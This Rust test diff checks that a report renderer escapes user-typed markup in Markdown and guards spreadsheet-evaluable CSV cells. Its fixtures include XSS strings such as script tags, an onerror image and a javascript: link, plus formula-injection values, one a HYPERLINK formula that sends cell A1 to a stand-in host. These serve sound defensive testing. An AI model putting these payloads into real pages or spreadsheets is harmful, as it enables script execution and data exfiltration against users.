@@ -149,11 +149,7 @@ fn no_report_carries_a_raw_control_character() {
         for format in [Format::Markdown, Format::Html] {
             let text = render(&s, public, format);
             assert_eq!(
-                raw_controls(
-                    text.replace('\u{202e}', "")
-                        .replace('\u{200b}', "")
-                        .as_bytes()
-                ),
+                raw_controls(text.replace(['\u{202e}', '\u{200b}'], "").as_bytes()),
                 Vec::<String>::new(),
                 "{format:?} public={public}"
             );
@@ -177,4 +173,101 @@ fn no_report_carries_a_raw_control_character() {
         }
     }
     assert!(seen > 0);
+}
+
+fn session_with_notes(pact: &str, notes: &[&str]) -> Session {
+    let mut s = volgspot::store::parse_session(volgspot::tui::EXAMPLE)
+        .unwrap()
+        .0;
+    s.intake.pact_name = pact.into();
+    let iv = std::sync::Arc::make_mut(&mut s.interviews[0]);
+    let template = iv.notes[0].clone();
+    for text in notes {
+        iv.notes.push(Note {
+            id: Id::new(),
+            text: (*text).into(),
+            kind: NoteKind::Observatie,
+            public: true,
+            ..template.clone()
+        });
+    }
+    s
+}
+
+const MARKUP: [&str; 5] = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[klik](javascript:alert(1)) en ![x](http://x/y.png)",
+    "eerste regel\n# geen kop\n| geen | tabel |\n|---|---|\n---\n    geen code",
+    "`code` *nadruk* _ook_ ~~weg~~ $x$ @bron [^1] <!-- c -->",
+];
+
+#[test]
+fn markdown_shows_typed_markup_as_text() {
+    let s = session_with_notes("Pact\n# Nieuwe kop", &MARKUP);
+    let md = render(&s, false, Format::Markdown);
+    // No raw HTML, link or image: every `<` and `[` from user text is escaped.
+    for bad in [
+        "<script",
+        "<img",
+        "<!--",
+        "](javascript",
+        "![x]",
+        "[klik]",
+        "`code`",
+        "*nadruk*",
+        "$x$",
+    ] {
+        let unescaped = md.match_indices(bad).any(|(i, _)| !md[..i].ends_with('\\'));
+        assert!(!unescaped, "{bad:?} reached the Markdown unescaped:\n{md}");
+    }
+    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"), "{md}");
+    assert!(md.contains("\\[klik\\](javascript:alert(1))"), "{md}");
+    // User text opens no heading, table or code block: each of its lines is escaped.
+    for l in md.lines() {
+        assert!(
+            !l.starts_with("# Nieuwe") && !l.trim_start().starts_with("# geen"),
+            "{l}"
+        );
+        assert!(
+            !l.trim_start().starts_with("| geen") && !l.trim_start().starts_with("|---|---|\\"),
+            "{l}"
+        );
+        assert!(!l.starts_with("    geen"), "{l}");
+    }
+    assert!(md.contains("\\# Nieuwe kop"), "{md}");
+}
+
+#[test]
+fn markdown_keeps_line_breaks_of_a_note_inside_its_list_item() {
+    let s = session_with_notes("Pact", &["regel een\nregel twee\n\n- regel drie"]);
+    let md = render(&s, false, Format::Markdown);
+    assert!(
+        md.contains("- regel een\\\n  regel twee\\\n  \\- regel drie"),
+        "{md}"
+    );
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe() {
+    let cells = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+        "\t=1+1",
+        "+31 6 1234",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\r=1+1",
+    ];
+    let s = session_with_notes("Pact", &cells);
+    let csv_text = render(&s, false, Format::Csv);
+    let mut rdr =
+        csv::ReaderBuilder::new().from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
+    let texts: Vec<String> = rdr.records().map(|r| r.unwrap()[3].to_string()).collect();
+    // (The report trims a note's leading white space; what is left is guarded.)
+    for c in cells {
+        let expected = format!("'{}", c.trim_start());
+        assert!(texts.contains(&expected), "{expected:?} not in {texts:?}");
+    }
+    // Ordinary text is left as it is.
+    assert!(texts.iter().any(|t| !t.starts_with('\'')));
 }
